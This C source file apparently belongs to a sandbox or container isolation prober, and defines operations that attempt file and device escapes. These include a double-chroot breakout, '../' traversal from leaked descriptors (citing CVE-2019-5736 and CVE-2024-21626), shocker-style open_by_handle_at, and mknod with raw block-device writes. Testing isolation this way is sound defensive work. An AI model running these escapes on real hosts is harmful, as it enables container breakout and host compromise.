// Attempts on files and device nodes.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/file.h>
#include <sys/poll.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "probe.h"

enum { MOST_READ = 4 << 20, HIGHEST_DESCRIPTOR = 64, HANDLE_BYTES = 128, OTHER_USER = 12345, SECTOR = 512, LEVELS = 64 };

static int keep_file(int file, char *got) {
  ssize_t size = file < 0 ? -1 : read(file, got, GOT_BYTES - 1);
  if (size >= 0) got[size] = '\0';
  return size < 0 ? -1 : 0;
}

static int read_file(char **words, char *got) { return keep_file(open(words[0], O_RDONLY | O_NONBLOCK), got); }

// PATH WORD: the line of a file that has a word in it.
static int read_line(char **words, char *got) {
  int file = open(words[0], O_RDONLY | O_NONBLOCK);
  if (file < 0) return -1;
  char *text = malloc(MOST_READ);
  if (!text) return -1;
  size_t size = 0;
  for (ssize_t more; size < MOST_READ && (more = read(file, text + size, MOST_READ - size)) > 0;) size += (size_t)more;
  int result = keep_line(got, text, size, words[1]);
  free(text);
  return result;
}

// The second chroot(2): the working directory stays above the new root, and "..", not stopped there, goes up to the real one.
static int chroot_twice(char **words, char *got) {
  if (enter_own_directory() != 0 || mkdir("inner", 0755) != 0) return -1;
  int own = open(".", O_RDONLY | O_DIRECTORY);
  if (chroot("inner") != 0) return -1;
  for (int level = 0; level < LEVELS; level++)
    if (chdir("..") != 0) return -1;
  if (chroot(".") != 0) return -1;
  int result = keep_file(open(words[0], O_RDONLY), got), error = errno;
  (void)!fchdir(own);
  errno = error;
  return result;
}

// A path upwards from the working directory and from every directory that was left open: CVE-2019-5736 and CVE-2024-21626 began so.
static int read_from_descriptors(char **words, char *got) {
  char up[512];
  (void)snprintf(up, sizeof up, "../../../../../../../../../../../..%s", words[0]);
  for (int from = 2; from < HIGHEST_DESCRIPTOR; from++) {
    int file = openat(from == 2 ? AT_FDCWD : from, up, O_RDONLY);
    if (file >= 0) return keep_file(file, got);
  }
  errno = ENOENT;
  return -1;
}

// TYPE HEX PATH: a file's handle needs no path to it, only a file of the same file system (S. Krahmer, shocker.c, 2014).
static int open_handle(char **words, char *got) {
  union {
    struct file_handle handle;
    char room[sizeof(struct file_handle) + HANDLE_BYTES];
  } place = {.room = {0}};
  size_t size = strlen(words[1]) / 2;
  if (size > HANDLE_BYTES) size = HANDLE_BYTES;
  place.handle.handle_bytes = (unsigned)size;
  place.handle.handle_type = (int)to_number(words[0]);
  for (size_t i = 0; i < size; i++) {
    char pair[3] = {words[1][2 * i], words[1][2 * i + 1], '\0'};
    place.handle.f_handle[i] = (unsigned char)strtoul(pair, NULL, 16);
  }
  int mount = open(words[2], O_RDONLY);
  return mount < 0 ? -1 : keep_file(open_by_handle_at(mount, &place.handle, O_RDONLY), got);
}

static int open_to_write(char **words, char *got) {
  (void)got;
  return open(words[0], O_WRONLY) < 0 ? -1 : 0;
}

static int write_text(char **words, char *got) {
  (void)got;
  int file = open(words[0], O_WRONLY);
  return file < 0 || write(file, words[1], strlen(words[1])) < 0 ? -1 : close(file);
}

// PATH MODE: a file of root's, which the host finds with this owner and mode.
static int create_file(char **words, char *got) {
  (void)got;
  int file = open(words[0], O_WRONLY | O_CREAT | O_EXCL, 0600);
  return file < 0 || fchmod(file, (mode_t)to_number(words[1])) != 0 ? -1 : close(file);
}

static int remove_file(char **words, char *got) {
  (void)got;
  return unlink(words[0]);
}

static int change_own_file(char **words, char *got) {
  (void)words, (void)got;
  if (enter_own_directory() != 0) return -1;
  int file = open("own", O_RDWR | O_CREAT | O_EXCL, 0600);
  return file < 0 || fchown(file, OTHER_USER, OTHER_USER) != 0 || fchmod(file, 0640) != 0 ? -1 : close(file);
}

static int delete_own_file(char **words, char *got) { return change_own_file(words, got) != 0 ? -1 : unlink("own"); }

static int chroot_inside(char **words, char *got) {
  (void)words, (void)got;
  if (enter_own_directory() != 0 || mkdir("inner", 0755) != 0 || chroot("inner") != 0) return -1;
  return access("/own", F_OK) != 0 && errno == ENOENT ? 0 : -1;
}

// KIND MAJOR MINOR ACT TEXT: make a node, and read, write or only open it.
static int use_node(char **words, char *got) {
  if (enter_own_directory() != 0) return -1;
  mode_t kind = words[0][0] == 'b' ? S_IFBLK : S_IFCHR;
  if (mknod("own", kind | 0600, makedev((unsigned)to_number(words[1]), (unsigned)to_number(words[2]))) != 0) return -1;
  char act = words[3][0];
  int node = open("own", (act == 'r' ? O_RDONLY : O_RDWR) | O_NONBLOCK);
  if (node < 0) return -1;
  if (act == 'r') return keep_file(node, got);
  char sector[SECTOR] = {0};
  (void)snprintf(sector, sizeof sector, "%s", words[4]);
  if (act == 'w' && (write(node, sector, sizeof sector) < 0 || fsync(node) != 0)) return -1;
  return 0;
}

static int use_own_devices(char **words, char *got) {
  (void)words, (void)got;
  char byte = 1;
  int null = open("/dev/null", O_WRONLY), zero = open("/dev/zero", O_RDONLY), random = open("/dev/urandom", O_RDONLY);
  return null < 0 || zero < 0 || random < 0 || write(null, &byte, 1) != 1 || read(zero, &byte, 1) != 1 || read(random, &byte, 1) != 1 ? -1
                                                                                                                                      : 0;
}

static int open_terminal(char **words, char *got) {
  (void)words;
  int terminal = posix_openpt(O_RDWR | O_NOCTTY);
  if (terminal < 0 || grantpt(terminal) != 0 || unlockpt(terminal) != 0) return -1;
  return ptsname_r(terminal, got, GOT_BYTES) != 0 ? -1 : 0;
}

// PATH: take a lock that the host would have, on a file of both; it stays taken.
static int take_lock(char **words, char *got) {
  (void)got;
  int file = open(words[0], O_RDONLY);
  return file < 0 ? -1 : flock(file, LOCK_EX | LOCK_NB);
}

// PATH MS: the name of what appears in a directory of both while it is watched.
static int watch_directory(char **words, char *got) {
  int notifier = inotify_init1(IN_CLOEXEC);
  if (notifier < 0 || inotify_add_watch(notifier, words[0], IN_CREATE) < 0) return -1;
  struct pollfd waiting = {.fd = notifier, .events = POLLIN};
  _Alignas(struct inotify_event) char room[1024];
  if (poll(&waiting, 1, (int)to_number(words[1])) <= 0) {
    errno = ETIME;
    return -1;
  }
  ssize_t size = read(notifier, room, sizeof room);
  if (size < (ssize_t)sizeof(struct inotify_event)) return -1;
  const struct inotify_event *event = (const struct inotify_event *)room;
  keep(got, event->name, strnlen(event->name, event->len));
  return 0;
}

const struct operation file_operations[] = {
  {"read", 1, read_file},
  {"line", 2, read_line},
  {"chroot_twice", 1, chroot_twice},
  {"descriptors", 1, read_from_descriptors},
  {"handle", 3, open_handle},
  {"open", 1, open_to_write},
  {"write", 2, write_text},
  {"create", 2, create_file},
  {"remove", 1, remove_file},
  {"own_file", 0, change_own_file},
  {"delete", 0, delete_own_file},
  {"chroot", 0, chroot_inside},
  {"node", 5, use_node},
  {"own_devices", 0, use_own_devices},
  {"terminal", 0, open_terminal},
  {"lock", 1, take_lock},
  {"watch", 2, watch_directory},
  {NULL, 0, NULL},
};
